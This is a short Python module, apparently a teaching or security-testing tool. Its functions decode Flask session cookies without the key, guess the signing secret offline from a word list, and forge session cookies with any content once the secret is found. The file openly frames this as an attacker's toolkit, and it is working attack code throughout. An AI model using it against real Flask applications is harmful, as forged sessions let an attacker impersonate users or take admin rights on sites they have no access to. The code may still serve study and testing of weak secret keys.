"""Do to a session cookie what anybody can do who gets hold of it."""

import json
import zlib
from base64 import urlsafe_b64decode
from collections.abc import Iterable, Mapping
from typing import Any

from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from itsdangerous import BadSignature, URLSafeTimedSerializer


def read(cookie: str) -> Any:
    """Return the content of a session cookie, or None if it has none. There is no key in here."""
    text = cookie.removeprefix(".").partition(".")[0]
    try:
        data = urlsafe_b64decode(text + "=" * (-len(text) % 4))
        if cookie.startswith("."):  # longer content is compressed
            data = zlib.decompressobj().decompress(data, 100_000)
        return json.loads(data)
    except (ValueError, zlib.error, RecursionError):
        return None


def signer(key: str) -> URLSafeTimedSerializer:
    """Return what Flask signs its sessions with, for a key that we think of."""
    app = Flask("attacker")
    app.secret_key = key
    return SecureCookieSessionInterface().get_signing_serializer(app)


def guess(cookie: str, words: Iterable[str]) -> str | None:
    """Return the word that signed the cookie. This happens at home: no server sees the attempts."""
    for word in words:
        try:
            signer(word).loads(cookie)
        except BadSignature:
            continue
        return word
    return None


def forge(content: Mapping[str, Any], key: str) -> str:
    """Return a session cookie with any content at all, once the key is known."""
    return signer(key).dumps(dict(content))
